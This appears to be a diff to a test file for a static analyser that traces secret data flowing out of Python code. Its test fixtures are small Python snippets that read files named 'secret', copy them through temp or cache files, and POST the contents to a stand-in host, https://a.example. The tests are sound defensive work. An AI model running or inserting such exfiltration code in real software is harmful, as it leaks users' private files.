@@ -64,3 +64,15 @@ it('what a path object holds is there when it is read again', async () => {
     'from pathlib import Path\nimport requests\nC = Path.home() / "cache.bin"\nC.write_bytes((Path.home() / "secret").read_bytes())\nrequests.post("https://a.example", data=C.read_bytes())'
   expect(flows(await factsOf({ 'a.py': code }, [stores]))).toHaveLength(1)
 })
+
+it('a copy is marked by the name of where it goes', async () => {
+  const code =
+    'import shutil, requests, tempfile\ntmp = tempfile.mktemp()\nshutil.copy("/secret", tmp)\nrequests.post("https://a.example", data=open(tmp).read())'
+  expect(flows(await factsOf({ 'a.py': code }, [stores]))).toHaveLength(1)
+})
+
+it('parts of a path that is known are known', async () => {
+  const code =
+    'from pathlib import Path\nimport requests\np = Path("~/secret/x")\nrequests.post("https://a.example", data=(p.parent / "y").read_text())\nq = Path("~") / Path("/a/secret").name\nrequests.post("https://a.example", data=q.read_text())'
+  expect(flows(await factsOf({ 'a.py': code }, [stores]))).toHaveLength(2)
+})
